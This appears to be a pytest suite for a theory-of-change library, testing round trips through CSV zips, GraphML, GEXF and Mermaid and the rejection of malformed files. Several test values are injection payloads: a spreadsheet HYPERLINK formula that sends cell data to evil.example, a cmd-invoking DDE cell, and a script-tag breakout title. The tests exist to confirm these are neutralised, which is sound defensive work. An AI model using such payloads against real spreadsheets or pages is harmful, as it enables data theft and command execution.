"""Interchange formats: every readable format gives back the model it was given, and bad
files are rejected with problems that say where."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from collections.abc import Mapping
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from strategies import toc_models

from toc.document import dump_json
from toc.errors import DocumentRejected, TocError
from toc.formats import read, read_path, write
from toc.formats.csvzip import read_csv_zip, write_csv_zip
from toc.formats.graphml import (
    UnwritableText,
    read_gexf,
    read_graphml,
    write_gexf,
    write_graphml,
)
from toc.formats.mermaid import write_mermaid
from toc.model import TheoryOfChange

ROUND_TRIP_FORMATS = ("json", "csv", "graphml", "gexf")
# The formats that carry the fields toc 0.2 added (SPEC §1). The CSV zip gains them on the
# spreadsheet branch, which then adds "csv" here.
CABINET_FORMATS = ("json", "graphml", "gexf")
EXAMPLES = sorted((Path(__file__).parents[1] / "examples").glob("*.json"))


def _model(nodes=(), links=(), **fields) -> TheoryOfChange:
    return TheoryOfChange.model_validate(
        {"id": "m", "title": "M", "nodes": list(nodes), "links": list(links), **fields}
    )


def _node(node_id, level="teacher", kind="change", **fields):
    return {"id": node_id, "level": level, "kind": kind, "title": node_id.title(), **fields}


_PAIR = [_node("grant", "system", "initiative"), _node("practice")]
_AWKWARD = 'a;b|c\\d "quoted" ""\r\nline\ttab  é中😀 '

EDGE_CASES = {
    "empty model": _model(),
    "parallel links with own ids": _model(
        _PAIR,
        [
            {"id": "coaching", "from": "grant", "to": "practice"},
            {"id": "materials", "from": "grant", "to": "practice", "because": "b"},
            {"from": "practice", "to": "grant", "type": "feedback"},
            # Numeric-looking ids must stay text: as numbers these two would be one edge.
            {"id": "0", "from": "grant", "to": "practice"},
            {"id": "00", "from": "grant", "to": "practice"},
        ],
    ),
    "no id and an own id spelled like the generated one": _model(
        _PAIR,
        [
            {"from": "grant", "to": "practice"},
            {"id": "practice->grant", "from": "practice", "to": "grant"},
        ],
    ),
    "separators, quotes, newlines and unicode everywhere": _model(
        [
            _node(
                "grant",
                "system",
                "initiative",
                title=_AWKWARD,
                description=_AWKWARD,
                form=" leading and trailing ",
                function="\n",
                tags=[_AWKWARD, ";", "|", '"', '""', " x "],
                indicators=[
                    {"name": _AWKWARD, "measures": "count", "target": _AWKWARD, "cadence": "|"},
                    {"name": "n", "baseline": ";", "source": "\\"},
                ],
            ),
            _node("reading", "student", "outcome", title="Lectura: comprensión ✓"),
        ],
        [
            {
                "from": "grant",
                "to": "reading",
                "because": _AWKWARD,
                "evidence": [
                    {"citation": _AWKWARD, "tier": 2, "url": "https://x.org/a;b|c", "note": "n"},
                    {"citation": "c", "note": _AWKWARD},
                ],
                "assumptions": [_AWKWARD, "\\", "a\\;b"],
            }
        ],
        title=_AWKWARD,
        description=_AWKWARD,
    ),
    "empty strings and empty lists kept apart from absent fields": _model(
        [
            _node(
                "grant",
                "system",
                "initiative",
                description="",
                actor='"',
                form='""',
                function="   ",
                tags=[],
                indicators=[{"name": "n", "target": "", "source": '"'}],
            ),
            _node("practice", tags=["t"]),
        ],
        [
            {
                "from": "grant",
                "to": "practice",
                "because": "",
                "evidence": [{"citation": "c", "note": ""}],
                "assumptions": [""],
            },
            {"id": "two", "from": "grant", "to": "practice", "assumptions": ["", ""]},
        ],
        description="",
    ),
    "retired nodes, checks, minus polarity, feedback, version": _model(
        [
            _node("grant", "system", "initiative", status="retired"),
            _node("practice", status="planned"),
            _node("reading", "student", "outcome"),
        ],
        [
            {"from": "grant", "to": "practice", "polarity": "-"},
            {"from": "reading", "to": "practice", "type": "feedback", "polarity": "-"},
        ],
        checks={"TOC601": "off", "TOC104": "warning"},
        version=0,
    ),
}


# --- round trips ------------------------------------------------------------------------------


@pytest.mark.parametrize("fmt", ROUND_TRIP_FORMATS)
@pytest.mark.parametrize("path", EXAMPLES, ids=lambda path: path.stem)
def test_every_example_survives_a_round_trip(path: Path, fmt: str) -> None:
    model = read_path(path)
    assert read(write(model, fmt), fmt) == model


@pytest.mark.parametrize("fmt", ROUND_TRIP_FORMATS)
@pytest.mark.parametrize("case", EDGE_CASES, ids=str)
def test_edge_cases_survive_a_round_trip(case: str, fmt: str) -> None:
    model = EDGE_CASES[case]
    assert read(write(model, fmt), fmt) == model


_CABINET = _model(
    [
        _node(
            "grant",
            "system",
            "initiative",
            label="Coaching",
            realizes=["state-plan:coaching-grant"],
            cost=450000.5,
            reach=3200,
            decision={
                "verdict": "revise",
                "rationale": _AWKWARD,
                "date": "2026-11-02",
                "decided_by": "Cabinet",
                "review_by": "2027-06-30",
            },
            required=False,
            funding=[
                {"source": "Title II-A", "amount": 300000, "ends": "2027-09-30"},
                {"source": "state-plan:coaching-grant", "amount": 150000.5},
            ],
            eligible=["0601234", "0605678"],
            essa_tier={"tier": 2, "source": "WWC review, 2019"},
        ),
        _node("practice", label="Practice", realizes=["state-plan:practice"]),
        _node("other", "system", "initiative", cost=7, required=True),
    ],
    [
        {"from": "grant", "to": "practice", "lag": "1 month"},
        {"from": "other", "to": "practice", "lag": "2 years"},
    ],
    scope="district",
    org="0601234",
    designations=["CSI", "Title I"],
    currency="EUR",
)


@pytest.mark.parametrize("fmt", CABINET_FORMATS)
def test_the_decision_the_money_labels_references_and_lags_survive_a_round_trip(fmt: str) -> None:
    back = read(write(_CABINET, fmt), fmt)
    assert back == _CABINET
    assert dump_json(back) == dump_json(_CABINET)


def test_graphml_keeps_the_title_as_label_and_writes_a_nodes_own_label_as_toc_label() -> None:
    graphml = write_graphml(_CABINET).decode("utf-8")
    assert 'attr.name="toc_label"' in graphml and ">Coaching<" in graphml
    assert ">Grant<" in graphml  # the title, which yEd and Gephi show
    gexf = write_gexf(_CABINET).decode("utf-8")
    assert '<node id="grant" label="Grant">' in gexf
    assert 'title="toc_label"' in gexf and 'value="Coaching"' in gexf


@pytest.mark.parametrize("fmt", ROUND_TRIP_FORMATS)
@settings(deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(data=st.data())
def test_any_valid_model_survives_a_round_trip(fmt: str, data: st.DataObject) -> None:
    model = data.draw(toc_models(cabinet_fields=fmt in CABINET_FORMATS))
    back = read(write(model, fmt), fmt)
    assert back == model
    # Exactly: 80 and 80.0 are equal in Python but not the same baseline in a document.
    assert dump_json(back) == dump_json(model)


def test_the_csv_zip_is_the_same_bytes_for_the_same_model() -> None:
    model = EDGE_CASES["parallel links with own ids"]
    assert write_csv_zip(model) == write_csv_zip(model.model_copy(deep=True))


def test_node_titles_are_the_labels_yed_and_gephi_show() -> None:
    model = _model([_node("grant", "system", "initiative", title="Coaching grant")])
    assert re.search(rb'<node id="grant" label="Coaching grant"', write_gexf(model))
    assert b'attr.name="label"' in write_graphml(model)


@pytest.mark.parametrize("write_xml", [write_graphml, write_gexf])
def test_text_xml_cannot_hold_is_refused_rather_than_corrupted(write_xml) -> None:
    model = _model([_node("grant", "system", "initiative", description="bell \x07")])
    with pytest.raises(UnwritableText, match=r"nodes\[0\]\.description: character U\+0007"):
        write_xml(model)
    assert issubclass(UnwritableText, ValueError) and issubclass(UnwritableText, TocError)


def test_json_and_csv_carry_characters_xml_cannot() -> None:
    weird = "nul\x00 bell\x07 vt\x0b sep\x1e nel\x85 ls\u2028 \ufffe"
    model = _model([_node("grant", "system", "initiative", title=weird, tags=[weird])], title=weird)
    for fmt in ("json", "csv"):
        assert read(write(model, fmt), fmt) == model


# --- CSV: a zip of spreadsheets ---------------------------------------------------------------


def _zip(files: Mapping[str, str | bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, content in files.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def _unzip(data: bytes) -> dict[str, str]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {name: archive.read(name).decode("utf-8-sig") for name in archive.namelist()}


def _rejected(read_model, data: bytes) -> list[str]:
    with pytest.raises(DocumentRejected) as rejected:
        read_model(data)
    return [str(problem) for problem in rejected.value.problems]


_MODEL_CSV = "id,title\r\nm,M\r\n"


def test_a_spreadsheet_teams_write_by_hand_is_read() -> None:
    # What Excel saves as "CSV UTF-8": a BOM, CRLF, headers in any case, spaces after `;`.
    nodes = (
        "\ufeffID,Level,Kind,Title,Tags,Indicators\r\n"
        'grant,system,initiative,Coaching grant,"money; people",\r\n'
        ",,,,,\r\n"
        "reading,student,outcome,Reading,,State assessment | outcome; Lexile growth\r\n"
    )
    links = "\ufefffrom,to,because,evidence\r\ngrant,reading,Coaches model,Smith (2019) | 2\r\n"
    model = read_csv_zip(_zip({"model.csv": _MODEL_CSV, "nodes.csv": nodes, "links.csv": links}))
    grant, reading = model.nodes
    assert grant.tags == ["money", "people"]
    assert [(i.name, i.measures) for i in reading.indicators] == [
        ("State assessment", "outcome"),
        ("Lexile growth", None),
    ]
    assert model.links[0].evidence[0].tier == 2
    assert model.links[0].key == "grant->reading"


def test_text_a_spreadsheet_would_run_as_a_formula_is_written_as_text() -> None:
    attack = '=HYPERLINK("http://evil.example/?"&A1,"Click me")'
    model = _model(
        [
            _node(
                "grant",
                "system",
                "initiative",
                title=attack,
                form="-2+3",
                function="@SUM(A1:A9)",
                tags=["+cmd|' /C calc'!A0", "fine"],
                indicators=[{"name": "=1+1", "measures": "count"}],
            ),
            _node("practice", description="\t=tab first", actor="'=guarded already"),
        ],
        [
            {
                "from": "grant",
                "to": "practice",
                "polarity": "-",
                "because": "\r=carriage return first",
                "assumptions": ["=a"],
                "evidence": [{"citation": "@c", "tier": 2}],
            }
        ],
        title="+ is not a formula here",
    )
    data = write_csv_zip(model)
    rows = {
        name: list(csv.DictReader(io.StringIO(text, newline="")))
        for name, text in _unzip(data).items()
    }
    runnable = [
        (name, column, cell)
        for name, table in rows.items()
        for row in table
        for column, cell in row.items()
        if re.match(r"[=+\-@\t\r]", cell)
    ]
    assert runnable == [("links.csv", "polarity", "-")]  # a validated word, never a formula
    assert rows["nodes.csv"][0]["title"] == "'" + attack
    assert rows["nodes.csv"][0]["tags"] == "'+cmd|' /C calc'!A0; fine"
    assert rows["nodes.csv"][1]["actor"] == "''=guarded already"
    assert read_csv_zip(data) == model


def test_a_leading_apostrophe_before_anything_but_a_formula_is_kept() -> None:
    nodes = "id,level,kind,title\r\ngrant,system,initiative,'Tis the season\r\n"
    model = read_csv_zip(_zip({"model.csv": _MODEL_CSV, "nodes.csv": nodes}))
    assert model.nodes[0].title == "'Tis the season"


def test_a_zip_of_a_folder_without_links_is_read() -> None:
    data = _zip({"plan/model.csv": _MODEL_CSV, "plan/nodes.csv": "id,level,kind,title\n"})
    assert read_csv_zip(data) == _model()


def test_csv_that_is_not_a_zip_is_rejected() -> None:
    assert _rejected(read_csv_zip, b"id,level\n") == [
        "$: not a zip archive: a CSV model is a zip of model.csv, nodes.csv, links.csv, "
        "observations.csv"
    ]


def test_a_zip_without_nodes_csv_is_rejected() -> None:
    assert _rejected(read_csv_zip, _zip({"model.csv": _MODEL_CSV})) == [
        "nodes.csv: missing from the zip"
    ]


def test_a_csv_that_is_not_utf8_is_rejected_with_advice() -> None:
    data = _zip({"model.csv": _MODEL_CSV, "nodes.csv": "id,title\nx,Caf\xe9\n".encode("cp1252")})
    [problem] = _rejected(read_csv_zip, data)
    assert problem.startswith("nodes.csv: not UTF-8 text") and "CSV UTF-8" in problem


def test_an_unknown_level_is_reported_at_its_row_and_column() -> None:
    files = _unzip(write_csv_zip(_model(_PAIR)))
    files["nodes.csv"] = files["nodes.csv"].replace("practice,teacher,", "practice,district,")
    [problem] = _rejected(read_csv_zip, _zip(files))
    assert problem.startswith("nodes.csv:3.level: unknown level 'district'")


def test_every_problem_in_the_zip_is_reported_at_once_in_file_and_row_order() -> None:
    nodes = (
        "id,level,kind,title,colour,indicators\n"
        "grant,system,initiative,Grant,,a|b|c|d|e|f|g|h\n"
        "reading,teacher,outcome,Reading,,\n"
        "x,student,change,X,,,surplus\n"
    )
    links = "from,to\ngrant,ghost\n"
    checks = "id,title,checks\nm,M,TOC601\n"
    problems = _rejected(
        read_csv_zip, _zip({"model.csv": checks, "nodes.csv": nodes, "links.csv": links})
    )
    assert [problem.split(": ")[0] for problem in problems] == [
        "model.csv:2.checks",
        "nodes.csv:1.colour",
        "nodes.csv:2.indicators",
        "nodes.csv:3.level",
        "nodes.csv:4",
        "links.csv:2.to",
    ]
    assert "item 1 has 8 fields; expected at most 7" in problems[2]
    assert "no node with id 'ghost'" in problems[5]


def test_contract_faults_in_nested_cells_name_the_item() -> None:
    nodes = "id,level,kind,title,indicators\ngrant,system,initiative,Grant,Hours|minutes\n"
    links = "from,to,evidence\ngrant,grant,Smith|5\n"
    problems = _rejected(
        read_csv_zip, _zip({"model.csv": _MODEL_CSV, "nodes.csv": nodes, "links.csv": links})
    )
    assert [problem.split(": ")[0] for problem in problems] == [
        "nodes.csv:2.indicators[0].measures",
        "links.csv:2.to",
        "links.csv:2.evidence[0].tier",
    ]


# --- GraphML and GEXF -------------------------------------------------------------------------

_GRAPHML = """<?xml version="1.0" encoding="utf-8"?>
<graphml xmlns="http://graphml.graphdrawing.org/xmlns">
  <key id="t" for="graph" attr.name="title" attr.type="string"/>
  <key id="m" for="graph" attr.name="model_id" attr.type="string"/>
  <key id="l" for="node" attr.name="label" attr.type="string"/>
  <key id="v" for="node" attr.name="level" attr.type="string"/>
  <key id="k" for="node" attr.name="kind" attr.type="string"/>
  <key id="g" for="node" attr.name="tags" attr.type="string"/>
  <graph edgedefault="{direction}">
    <data key="t">M</data><data key="m">m</data>
    <node id="grant"><data key="l">Grant</data><data key="v">system</data>
      <data key="k">initiative</data><data key="g">{tags}</data></node>
    <edge source="grant" target="ghost"/>
  </graph>
</graphml>"""


@pytest.mark.parametrize("read_xml", [read_graphml, read_gexf])
def test_invalid_xml_is_rejected(read_xml) -> None:
    [problem] = _rejected(read_xml, b"<graphml><graph>")
    assert problem.startswith("$: not valid XML")


def test_a_graphml_link_to_a_missing_node_is_rejected() -> None:
    data = _GRAPHML.format(direction="directed", tags="[]").encode()
    assert _rejected(read_graphml, data) == ["links[0].to: no node with id 'ghost'"]


def test_graphml_list_attributes_that_are_not_json_are_rejected() -> None:
    data = _GRAPHML.format(direction="directed", tags="a;b").encode()
    problems = _rejected(read_graphml, data)
    assert problems[0].startswith("nodes[0].tags: 'tags' is not JSON")


def test_an_undirected_graphml_graph_is_rejected() -> None:
    data = _GRAPHML.format(direction="undirected", tags="[]").encode()
    assert _rejected(read_graphml, data) == [
        "$: an undirected GraphML graph: links have a direction"
    ]


def test_a_gexf_link_to_a_missing_node_is_rejected() -> None:
    gexf = write_gexf(_model(_PAIR, [{"from": "grant", "to": "practice"}])).decode()
    gexf = gexf.replace('target="practice"', 'target="ghost"')
    assert _rejected(read_gexf, gexf.encode()) == ["links[0].to: no node with id 'ghost'"]


def test_gexf_without_the_model_fields_is_rejected() -> None:
    gexf = re.sub(r"<description>.*</description>", "", write_gexf(_model()).decode())
    problems = _rejected(read_gexf, gexf.encode())
    assert problems[0].startswith("meta.description: expected the model's id, title")


# --- Mermaid ----------------------------------------------------------------------------------


def test_mermaid_draws_three_bands_and_one_line_per_link() -> None:
    model = EDGE_CASES["retired nodes, checks, minus polarity, feedback, version"]
    lines = write_mermaid(model).decode().splitlines()
    assert "flowchart TD" in lines
    subgraphs = [line.strip() for line in lines if line.strip().startswith("subgraph")]
    assert subgraphs == [
        'subgraph system["System"]',
        'subgraph teacher["Teachers"]',
        'subgraph student["Students"]',
    ]
    assert sum(line.strip() == "end" for line in lines) == 3
    arrows = [line.strip() for line in lines if "-->" in line or "-.->" in line]
    assert arrows == ['grant -->|"(−)"| practice', 'reading -.->|"(−)"| practice']
    assert "  class grant retired" in lines


def test_mermaid_draws_a_nodes_own_label_instead_of_its_title() -> None:
    lines = write_mermaid(_CABINET).decode().splitlines()
    assert '    grant["Coaching"]' in lines and '    practice("Practice")' in lines
    assert '    other["Other"]' in lines  # no label: the title


def test_a_yed_edit_that_breaks_a_new_field_is_rejected_at_its_path() -> None:
    graphml = write_graphml(_CABINET).decode()
    graphml = graphml.replace('"verdict": "revise"', '"verdict": "revize"')
    graphml = graphml.replace(">2 years<", ">2 yeers<")
    assert _rejected(read_graphml, graphml.encode()) == [
        "nodes[0].decision.verdict: unknown verdict 'revize' on node 'grant'; did you mean "
        "'revise'?",
        "links[1].lag: '2 yeers' is not a lag on link 'other->practice': write N days, N weeks, "
        "N months or N years, N in digits; did you mean '2 years'?",
    ]


def test_mermaid_shapes_follow_the_kind_and_because_is_cut_short() -> None:
    model = _model(
        [
            _node("grant", "system", "initiative"),
            _node("practice"),
            _node("r", "student", "outcome"),
        ],
        [{"from": "grant", "to": "practice", "because": "word " * 30}],
    )
    text = write_mermaid(model).decode()
    assert '    grant["Grant"]' in text and '    practice("Practice")' in text
    assert '    r(["R"])' in text
    [edge] = [line for line in text.splitlines() if "-->" in line]
    label = re.fullmatch(r'  grant -->\|"(.*)"\| practice', edge)
    assert label and len(label[1]) <= 40 and label[1].endswith("…")


def test_mermaid_escapes_titles_that_try_to_break_out() -> None:
    title = '"]);<script>alert(1)</script> %%{init: {}}%% #quot; a|b `c`\nd'
    model = _model([_node("grant", "system", "initiative", title=title)], title=title)
    text = write_mermaid(model).decode()
    assert "<script>" not in text and '"]);' not in text and "%%{" not in text
    [node] = [line for line in text.splitlines() if line.startswith("    grant")]
    # One quoted label and nothing after it: every quote inside became an entity.
    assert re.fullmatch(r'    grant\["[^"<>`{}%|]*"\]', node)
    assert "#34;])#59;#60;script#62;" in node


# A Mermaid id as toc writes it: no arrow ("--", "-.", ".-") inside, none at the end.
_ID = r"[a-z0-9_]+(?:[-.][a-z0-9_]+)*"
_NODE_LINE = re.compile(rf'    ({_ID})(\["[^"]*"\]|\("[^"]*"\)|\(\["[^"]*"\]\))')
_LINK_LINE = re.compile(rf'  {_ID} (-->|-\.->)(\|"[^"|]*"\|)? {_ID}')
_KEYWORDS = {"end", "graph", "flowchart", "subgraph", "style", "linkstyle", "classdef", "class"}


@settings(deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(model=toc_models())
def test_no_text_can_change_the_shape_of_the_mermaid_diagram(model: TheoryOfChange) -> None:
    lines = write_mermaid(model).decode().splitlines()
    assert lines[0] == "---" and lines[1].startswith("title: ") and lines[2] == "---"
    assert sum(line.startswith("  subgraph ") for line in lines) == 3
    node_ids = [m[1] for line in lines if (m := _NODE_LINE.fullmatch(line))]
    assert len(node_ids) == len(set(node_ids)) == len(model.nodes)
    assert not {re.split(r"[-._]", node_id)[0] for node_id in node_ids} & _KEYWORDS
    assert not set(node_ids) & {"system", "teacher", "student"}  # the bands' subgraph ids
    assert sum(bool(_LINK_LINE.fullmatch(line)) for line in lines) == len(model.links)


_TRACKED = _model(
    [
        _node(
            "talk",
            indicators=[
                {
                    "id": "share",
                    "name": "Share of lessons with discourse",
                    "baseline": 20,
                    "target": 40.0,
                    "observations": [
                        {"date": "2026-03-01", "value": -2.5, "note": "=SUM(A1)"},
                        {"date": "2026-01-10", "value": 21},
                    ],
                },
                {
                    "name": "Twice",
                    "baseline": "80",
                    "target": "-5",
                    "observations": [{"date": "2026-01-10", "value": 1e20}],
                },
                {
                    "name": "Twice",
                    "target": "1e3",
                    "observations": [{"date": "2026-01-10", "value": 0}],
                },
                {"name": "Visits", "observations": [{"date": "2026-01-10", "value": 7}]},
            ],
        )
    ]
)


@pytest.mark.parametrize("fmt", ROUND_TRIP_FORMATS)
def test_numbers_stay_numbers_and_texts_that_look_like_numbers_stay_texts(fmt: str) -> None:
    back = read(write(_TRACKED, fmt), fmt)
    assert dump_json(back) == dump_json(_TRACKED)
    share, twice = back.nodes[0].indicators[:2]
    assert (share.baseline, share.target) == (20, 40.0)
    assert type(share.baseline) is int and type(share.target) is float
    assert (twice.baseline, twice.target) == ("80", "-5")


def test_observations_travel_in_observations_csv_by_id_name_or_place() -> None:
    files = _unzip(write_csv_zip(_TRACKED))
    rows = list(csv.reader(io.StringIO(files["observations.csv"])))
    assert rows == [
        ["node", "indicator", "date", "value", "note"],
        ["talk", "share", "2026-01-10", "21", ""],
        ["talk", "share", "2026-03-01", "-2.5", "'=SUM(A1)"],
        ["talk", "#2", "2026-01-10", "1e+20", ""],
        ["talk", "#3", "2026-01-10", "0", ""],
        ["talk", "Visits", "2026-01-10", "7", ""],
    ]
    indicators = list(csv.reader(io.StringIO(files["nodes.csv"])))[1][-1]
    assert indicators.startswith(
        "Share of lessons with discourse||40.0|20|||share; Twice||\\-5|\\80"
    )
    assert "observations.csv" not in _unzip(write_csv_zip(_model([_node("talk")])))


def test_hand_written_observations_csv_is_read_and_its_problems_located() -> None:
    nodes = "id,level,kind,title,indicators\ntalk,teacher,change,Talk,Visits|count|10|\\10\n"
    good = "node,indicator,date,value\r\ntalk,Visits,2026-01-10, 3 \r\ntalk,#1,2026-02-10,4.5\r\n"
    model = read_csv_zip(
        _zip({"model.csv": "id,title\nm,M\n", "nodes.csv": nodes, "observations.csv": good})
    )
    visits = model.nodes[0].indicators[0]
    assert (visits.target, visits.baseline) == (10, "10")
    assert [(str(o.date), o.value) for o in visits.observations] == [
        ("2026-01-10", 3),
        ("2026-02-10", 4.5),
    ]
    bad = (
        "node,indicator,date,value\n"
        "talk,Visits,2026-13-01,3\n"
        "ghost,Visits,2026-01-01,3\n"
        "talk,Walks,2026-01-01,3\n"
        "talk,Visits,2026-01-01,three\n"
    )
    problems = _rejected(
        read_csv_zip,
        _zip({"model.csv": "id,title\nm,M\n", "nodes.csv": nodes, "observations.csv": bad}),
    )
    assert problems == [
        "observations.csv:2.date: expected a date written YYYY-MM-DD, got '2026-13-01' "
        "on node 'talk'",
        "observations.csv:3.node: no node with id 'ghost'",
        "observations.csv:4.indicator: no indicator with id or name 'Walks'",
        "observations.csv:5.value: expected a number, got a string on node 'talk'",
    ]


def test_mermaid_keeps_node_ids_so_a_diff_shows_what_changed() -> None:
    before = _model(
        [_node("grant", "system", "initiative"), _node("small-group.reteach"), _node("end")],
        [{"from": "grant", "to": "small-group.reteach"}, {"from": "grant", "to": "end"}],
    )
    after = _model(
        [*before.to_document()["nodes"], _node("coaching", "system", "initiative")],
        [*before.to_document()["links"], {"from": "coaching", "to": "small-group.reteach"}],
    )
    old = write_mermaid(before).decode().splitlines()
    new = write_mermaid(after).decode().splitlines()
    # Adding a node and its link adds their lines and changes no other line.
    assert [line for line in old if line not in new] == []
    assert [line for line in new if line not in old] == [
        '    coaching["Coaching"]',
        "  coaching --> small-group.reteach",
    ]
    # "end" is a Mermaid keyword: it is renamed, the same way in both exports.
    assert "  grant --> n_end" in old


def test_ids_that_mermaid_writes_alike_stay_distinct() -> None:
    model = _model([_node("a--b"), _node("a_b"), _node("a..b"), _node("x-")])
    lines = write_mermaid(model).decode().splitlines()
    assert [line.split("(")[0].strip() for line in lines if _NODE_LINE.fullmatch(line)] == [
        "a_b_2",
        "a_b",
        "a_b_3",
        "x_",
    ]
